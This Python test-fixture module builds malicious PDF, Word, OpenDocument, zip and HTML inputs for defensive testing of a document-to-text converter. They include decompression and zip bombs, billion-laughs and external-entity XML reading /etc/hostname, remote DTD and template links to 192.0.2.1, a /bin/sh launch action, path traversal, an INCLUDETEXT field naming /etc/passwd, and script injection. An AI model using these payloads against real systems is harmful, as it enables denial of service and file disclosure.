"""Files made to do harm, with what should become of each: a refusal, or a harmless text.

Each table maps a file's name to its bytes and to a pattern of the refusal (``refused``), or of the
text that is left (``read``). All are small to send.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass

import made_files

SENTENCE = "We train forty teachers in digital methods."
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {new} "{f"&{old};" * 20}">'
    for old, new in zip("abcdefghij", "bcdefghijk", strict=True)
)
LAUGHS += "]>"
OUTSIDE = '<!DOCTYPE x [<!ENTITY k SYSTEM "file:///etc/hostname">]>'
REMOTE = '<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">'


@dataclass(frozen=True)
class Hostile:
    data: bytes
    refused: str = ""
    read: str = ""


# PDF


def pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """Number the objects from 1 (the catalogue) and write them with their table."""
    out = io.BytesIO(b"%PDF-1.7\n")
    out.seek(0, io.SEEK_END)
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    table = out.tell()
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    out.write(b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, rows))
    out.write(b"trailer\n<</Size %d/Root 1 0 R%s>>\n" % (len(objects) + 1, trailer))
    out.write(b"startxref\n%d\n%%%%EOF" % table)
    return out.getvalue()


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), entries, data)


SHOWN = b"BT /F1 12 Tf 72 700 Td (" + SENTENCE.encode() + b") Tj ET"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>%s>>"


def one_page(
    content: bytes = b"",
    catalogue: bytes = b"",
    page: bytes = b"",
    pages: bytes = PAGES,
    more: tuple[bytes, ...] = (),
    trailer: bytes = b"",
) -> bytes:
    root = b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue
    return pdf([root, pages, PAGE % page, content or stream(SHOWN), FONT, *more], trailer)


def bomb(n_blocks: int, fill: bytes = b" ", layers: int = 1) -> bytes:
    """Compress a text and so many times a MiB of something, without ever holding it."""
    head, packer = _packed(SHOWN), zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(fill * ((1 << 20) // len(fill))) + packer.flush(zlib.Z_FULL_FLUSH)
    data = b"\x78\xda" + head + block * n_blocks + b"\x03\x00" + bytes(4)
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter[%s]" % (b"/FlateDecode" * layers))


def _packed(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush(zlib.Z_FULL_FLUSH)


def deep_tree(depth: int) -> bytes:
    nodes = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 3) for number in range(depth)]
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", *nodes, b"<</Type/Page/MediaBox[0 0 9 9]>>"])


def wide_tree(levels: int) -> bytes:
    """Each node names the next ten times: 10**levels pages in few bytes."""
    nodes = [
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (b"%d 0 R " % (n + 3) * 10, 10 ** (levels - n))
        for n in range(levels)
    ]
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", *nodes, b"<</Type/Page/MediaBox[0 0 9 9]>>"])


def many_pages(n_pages: int) -> bytes:
    kids = b"".join(b"%d 0 R " % (number + 3) for number in range(n_pages))
    pages = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, n_pages)
    return pdf(
        [b"<</Type/Catalog/Pages 2 0 R>>", pages, *[b"<</Type/Page/Parent 2 0 R>>"] * n_pages]
    )


SCRIPT = b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://192.0.2.1/'\\);while\\(1\\){})>>"
LAUNCH = b"/OpenAction<</S/Launch/F(/bin/sh)>>"
FETCH = b"/AA<</O<</S/URI/URI(http://192.0.2.1/track)>>>>"
XFA = b"/AcroForm<</XFA 6 0 R/Fields[]>>/NeedsRendering true"
ATTACHED = b"/Names<</EmbeddedFiles<</Names[(evil.exe) 6 0 R]>>>>"
NESTED = b"<</Length 3/Deep %s%s>>stream\nq Q\nendstream" % (b"[" * 200_000, b"]" * 200_000)

PDFS = {
    "bomb": Hostile(one_page(bomb(1500)), refused="within bounds|too much memory|seconds"),
    "bomb-in-bomb": Hostile(
        one_page(bomb(1500, layers=3)), refused="within bounds|too much memory|seconds"
    ),
    "letters": Hostile(
        one_page(bomb(60, fill=b" BT /F1 9 Tf (abcdefgh ijkl) Tj ET")),
        refused="within bounds|too much memory|seconds|characters",
    ),
    "deep-tree": Hostile(
        deep_tree(20_000), refused="not PDF or is damaged|without text|within bounds"
    ),
    "wide-tree": Hostile(wide_tree(4), refused="pages"),
    "many-pages": Hostile(many_pages(5_000), refused="got a PDF of 5,000 pages"),
    "own-parent": Hostile(
        one_page(pages=b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>"),
        refused="without text|damaged",
        read=SENTENCE,
    ),
    "false-count": Hostile(
        one_page(pages=b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>"),
        refused="pages",
        read=SENTENCE,
    ),
    "deep-object": Hostile(one_page(NESTED), refused="without text|damaged|within bounds"),
    "script": Hostile(one_page(catalogue=SCRIPT), read=SENTENCE),
    "launch": Hostile(one_page(catalogue=LAUNCH), read=SENTENCE),
    "fetch": Hostile(one_page(page=FETCH), read=SENTENCE),
    "xfa": Hostile(
        one_page(catalogue=XFA, more=(stream(OUTSIDE.encode() + b"<x>&k;</x>"),)),
        refused="Adobe Reader",
        read=SENTENCE,
    ),
    "attachment": Hostile(
        one_page(catalogue=ATTACHED, more=(b"<</Type/Filespec/F(evil.exe)>>",)), read=SENTENCE
    ),
    "password": Hostile(made_files.pdf([SENTENCE], encrypt="secret"), refused="password"),
    "truncated": Hostile(made_files.pdf([SENTENCE] * 40)[:900], refused="damaged|without text"),
    "noise": Hostile(b"%PDF-1.7\n" + bytes(range(256)) * 40, refused="damaged"),
    "table-loop": Hostile(one_page(trailer=b"/Prev 9"), refused="damaged", read=SENTENCE),
    "huge-page": Hostile(
        one_page(page=b"/UserUnit 1e30/Rotate 7/CropBox[-1e38 -1e38 1e38 1e38]"),
        refused="without text",
        read=SENTENCE,
    ),
}

# Word and OpenDocument

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def changed(data: bytes, parts: dict[str, bytes | str], drop: tuple[str, ...] = ()) -> bytes:
    """Replace or add parts of a document that is a zip archive."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(out, "w", 8) as new,
    ):
        for name in old.namelist():
            if name not in parts and name not in drop:
                new.writestr(name, old.read(name))
        for name, part in parts.items():
            new.writestr(name, part)
    return out.getvalue()


def zipped(parts: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", 8) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


def lying(data: bytes, name: str, size: int) -> bytes:
    """Let the archive say that a part unpacks to so many bytes."""
    found = bytearray(data)
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := found.find(mark, start)) >= 0:
            name_at = start + (30 if mark == b"PK\x03\x04" else 46)
            if found[name_at : name_at + len(name)] == name.encode():
                struct.pack_into("<I", found, start + at, size)
            start += 4
    return bytes(found)


DOCX = made_files.word([SENTENCE])
BODY = f"<w:body><w:p><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>%s</w:body>"


def word(inside: str = "", before: str = "") -> str:
    return f'{before}<w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}">{BODY % inside}</w:document>'


def with_word(part: str | bytes, **others: bytes | str) -> bytes:
    return changed(DOCX, {"word/document.xml": part, **others})


def with_link(kind: str, target: str) -> bytes:
    link = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId9" '
        f'Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return changed(DOCX, {"word/_rels/document.xml.rels": link})


CORE = (
    '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
    'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>%s</dc:title>'
    "</cp:coreProperties>"
)
SPACE = " " * (70 << 20)
RUNS = "<w:p/>" * 2_000_000

WORDS = {
    "bomb": Hostile(with_word(word(SPACE)), refused="unpacks to"),
    "lying-bomb": Hostile(
        lying(with_word(word(SPACE)), "word/document.xml", 1000), refused="damaged"
    ),
    "picture-bomb": Hostile(
        lying(changed(DOCX, {"word/media/a.png": b"x"}), "word/media/a.png", 300 << 20),
        refused="unpacks to",
    ),
    "dense": Hostile(with_word(word(RUNS)), refused="unpacks to|memory|within bounds"),
    "outside-entity": Hostile(
        with_word(word("<w:p><w:r><w:t>&k;</w:t></w:r></w:p>", OUTSIDE)), refused="document type"
    ),
    "laughs": Hostile(
        with_word(word("<w:p><w:r><w:t>&k;</w:t></w:r></w:p>", LAUGHS)),
        refused="document type|damaged",
    ),
    "remote-dtd": Hostile(with_word(word("", REMOTE)), refused="document type"),
    "laughs-in-title": Hostile(
        changed(DOCX, {"docProps/core.xml": LAUGHS + CORE % "&k;"}),
        refused="document type|damaged",
        read=SENTENCE,
    ),
    "traversal": Hostile(changed(DOCX, {"../../../tmp/ka2nlp-evil": b"x"}), read=SENTENCE),
    "template": Hostile(with_link("attachedTemplate", "http://192.0.2.1/t.dotm"), read=SENTENCE),
    "picture-link": Hostile(with_link("image", "file:////192.0.2.1/share/x.png"), read=SENTENCE),
    "macro": Hostile(
        changed(DOCX, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99}), read=SENTENCE
    ),
    "zip-in-zip": Hostile(
        changed(DOCX, {"word/media/42.zip": zipped({"a": zipped({"b": bytes(9 << 20)})})}),
        read=SENTENCE,
    ),
    "deep": Hostile(
        with_word(word("<w:sdt>" * 9999 + "</w:sdt>" * 9999)), refused="damaged|too deeply"
    ),
    "field": Hostile(
        with_word(word('<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;/etc/passwd&quot;"/></w:p>')),
        read=SENTENCE,
    ),
    "alien-chunk": Hostile(
        with_word(word('<w:altChunk r:id="rId99"/>'), **{"word/evil.html": "<script>x</script>"}),
        read=SENTENCE,
    ),
    "no-main-part": Hostile(changed(DOCX, {}, drop=("word/document.xml",)), refused="damaged"),
    "own-parent": Hostile(
        changed(
            DOCX,
            {
                "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship '
                f'Id="rId1" Type="{OFFICE}/officeDocument" Target="_rels/.rels"/></Relationships>'
            },
        ),
        refused="damaged",
    ),
    "password": Hostile(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096), refused="under a password"
    ),
    "truncated": Hostile(DOCX[: len(DOCX) // 2], refused="damaged"),
}

ODT = made_files.opendocument([SENTENCE])
NAMES = {
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "xlink": "http://www.w3.org/1999/xlink",
    "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
}


NO_MORE: Mapping[str, bytes | str] = {}


def odt(inside: str = "", before: str = "", others: Mapping[str, bytes | str] = NO_MORE) -> bytes:
    names = " ".join(f'xmlns:{short}="{name}"' for short, name in NAMES.items())
    content = (
        f"{before}<office:document-content {names}><office:body><office:text>"
        f"<text:p>{SENTENCE}</text:p>{inside}</office:text></office:body></office:document-content>"
    )
    return changed(ODT, {"content.xml": content, **others})


META = (
    f'<office:document-meta xmlns:office="{NAMES["office"]}" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&k;</dc:title></office:document-meta>'
)
LOCKED = (
    '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
    '<m:file-entry m:full-path="content.xml"><m:encryption-data/></m:file-entry></m:manifest>'
)
LINKED = '<draw:image xlink:href="http://192.0.2.1/track.png" xlink:actuate="onLoad"/>'
EVENT = '<text:p><script:event-listener xlink:href="vnd.sun.star.script:x"/></text:p>'
REPEATED = (
    '<table:table-cell table:number-columns-repeated="2000000000"><text:p/></table:table-cell>'
)

ODTS = {
    "bomb": Hostile(odt(SPACE), refused="unpacks to"),
    "lying-bomb": Hostile(lying(odt(SPACE), "content.xml", 1000), refused="damaged"),
    "picture-bomb": Hostile(
        lying(odt(others={"Pictures/a.png": b"x"}), "Pictures/a.png", 300 << 20),
        refused="unpacks to",
    ),
    "dense": Hostile(odt("<text:p/>" * 2_000_000), refused="unpacks to|memory|within bounds"),
    "outside-entity": Hostile(odt("<text:p>&k;</text:p>", OUTSIDE), refused="document type"),
    "laughs": Hostile(odt("<text:p>&k;</text:p>", LAUGHS), refused="document type|damaged"),
    "laughs-in-title": Hostile(
        odt(others={"meta.xml": LAUGHS + META}), refused="document type|damaged"
    ),
    "remote-dtd": Hostile(odt("", REMOTE), refused="document type"),
    "traversal": Hostile(odt(others={"../../../tmp/ka2nlp-evil": b"x"}), read=SENTENCE),
    "picture-link": Hostile(odt(f"<text:p>{LINKED}</text:p>"), read=SENTENCE),
    "macro": Hostile(odt(EVENT, others={"Basic/Standard/evil.xml": "<x/>"}), read=SENTENCE),
    "zip-in-zip": Hostile(odt(others={"Object 1": zipped({"a": bytes(9 << 20)})}), read=SENTENCE),
    "deep": Hostile(odt("<text:section>" * 9999 + "</text:section>" * 9999), refused="damaged"),
    "spaces": Hostile(odt('<text:p>x<text:s text:c="2000000000"/>y</text:p>'), read="x y"),
    "repeated": Hostile(
        odt(f"<table:table><table:table-row>{REPEATED}</table:table-row></table:table>"),
        read=SENTENCE,
    ),
    "password": Hostile(odt(others={"META-INF/manifest.xml": LOCKED}), refused="under a password"),
    "no-content": Hostile(changed(ODT, {}, drop=("content.xml",)), refused="damaged"),
    "truncated": Hostile(ODT[: len(ODT) // 2], refused="damaged"),
}

# archives that are no documents, under endings that are taken and under their own


def overlapping(n_files: int) -> bytes:
    """Many names for one compressed part."""
    data = zlib.compress(bytes(8 << 20), 9)[2:-4]
    crc = zlib.crc32(bytes(8 << 20))
    sizes = struct.pack("<III", crc, len(data), 8 << 20)
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 0) + sizes
    first = local + struct.pack("<HH", 1, 0) + b"a" + data
    rows = b"".join(
        b"PK\x01\x02"
        + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 0)
        + sizes
        + struct.pack("<HHHHHII", 5, 0, 0, 0, 0, 0, 0)
        + b"%05d" % number
        for number in range(n_files)
    )
    end = struct.pack("<HHHHIIH", 0, 0, n_files, n_files, len(rows), len(first), 0)
    return first + rows + b"PK\x05\x06" + end


BOMB = zipped({"a": bytes(70 << 20)})
PLAIN = zipped({"readme.txt": SENTENCE})
BOOK = zipped({"mimetype": "application/epub+zip", "META-INF/container.xml": "<x/>"})
SHEET = changed(DOCX, {"xl/workbook.xml": "<x/>"}, drop=("word/document.xml",))

ZIPS = {
    "plain.zip": Hostile(PLAIN, refused="the ending '.zip'"),
    "bomb.zip": Hostile(BOMB, refused="the ending '.zip'"),
    "program.jar": Hostile(PLAIN, refused="the ending '.jar'"),
    "folder.tar.gz": Hostile(zlib.compress(bytes(9999)), refused="the ending '.gz'"),
    "plain.docx": Hostile(PLAIN, refused="damaged"),
    "bomb.docx": Hostile(BOMB, refused="unpacks to"),
    "overlap.docx": Hostile(overlapping(9999), refused="unpacks to"),
    "sheet.docx": Hostile(SHEET, refused="damaged"),
    "text.docx": Hostile(ODT, refused="damaged"),
    "plain.odt": Hostile(PLAIN, refused="damaged"),
    "bomb.odt": Hostile(BOMB, refused="unpacks to"),
    "book.odt": Hostile(BOOK, refused="damaged"),
    "word.odt": Hostile(DOCX, refused="damaged"),
    "many.odt": Hostile(
        zipped({f"{number}": "" for number in range(10_001)}), refused="parts|damaged"
    ),
    "plain.pdf": Hostile(PLAIN, refused="not PDF or is damaged"),
    "plain.txt": Hostile(PLAIN, refused="binary"),
    "plain.md": Hostile(PLAIN, refused="binary"),
    "plain.html": Hostile(PLAIN, refused="binary|not utf-8"),
    "empty.docx": Hostile(b"PK\x05\x06" + bytes(18), refused="damaged"),
}

# web pages


def html(inside: str, head: str = "") -> bytes:
    return f"<!doctype html><head>{head}</head><body><p>{SENTENCE}</p>{inside}".encode()


PAGES_OF_WEB = {
    "script": Hostile(html("<script>alert('evil')</script>"), read=SENTENCE),
    "handler": Hostile(html("<img src=x onerror=\"alert('evil')\">"), read=SENTENCE),
    "style": Hostile(
        html("<style>p{background:url(http://192.0.2.1/evil)}</style>"), read=SENTENCE
    ),
    "frame": Hostile(html("<iframe src='http://192.0.2.1/evil'>evil</iframe>"), read=SENTENCE),
    "refresh": Hostile(
        html("", "<meta http-equiv=refresh content='0;url=http://192.0.2.1/evil'>"), read=SENTENCE
    ),
    "data-url": Hostile(html("<img src='data:text/html;base64,ZXZpbA=='>"), read=SENTENCE),
    "picture": Hostile(html("<svg><script>evil()</script><text>evil</text></svg>"), read=SENTENCE),
    "object": Hostile(html("<object data=evil.swf>evil</object><embed src=evil>"), read=SENTENCE),
    "template": Hostile(html("<template><p>evil</p></template>"), read=SENTENCE),
    "comment": Hostile(html("<!--[if IE]><p>evil</p><![endif]-->"), read=SENTENCE),
    "link": Hostile(
        html("", "<base href='http://192.0.2.1/evil'><link rel=import href=e>"), read=SENTENCE
    ),
    "deep": Hostile(
        html("<div>" * 10_000 + "x"), refused="nested too deeply|memory|bounds", read=SENTENCE
    ),
    "deep-inline": Hostile(
        html("<b>" * 10_000 + "x"), refused="nested too deeply|memory|bounds", read=SENTENCE
    ),
    "attributes": Hostile(
        html(f"<p {' '.join(f'a{n}=1' for n in range(50_000))}>x"), read=SENTENCE
    ),
    "many": Hostile(html("<br>" * 20_000), read=SENTENCE),
    "long": Hostile(html("a " * 600_000), refused="characters"),
    "laughs": Hostile(LAUGHS.encode() + html("<p>&k;</p>"), read=SENTENCE),
    "outside-entity": Hostile(
        f'<?xml version="1.0"?>{OUTSIDE}<html xmlns="http://www.w3.org/1999/xhtml"><body>'
        f"<p>{SENTENCE}</p><p>&k;</p></body></html>".encode(),
        read=SENTENCE,
    ),
    "encoding": Hostile(html("", "<meta charset=utf-7>"), read=SENTENCE),
    "unknown-encoding": Hostile(
        html("", "<meta charset=evil>"), refused="unknown encoding|evil", read=SENTENCE
    ),
    "nulls": Hostile(html("\0" * 99_999), refused="binary"),
    "empty": Hostile(b"<html><script>evil()</script>", refused="without text"),
}
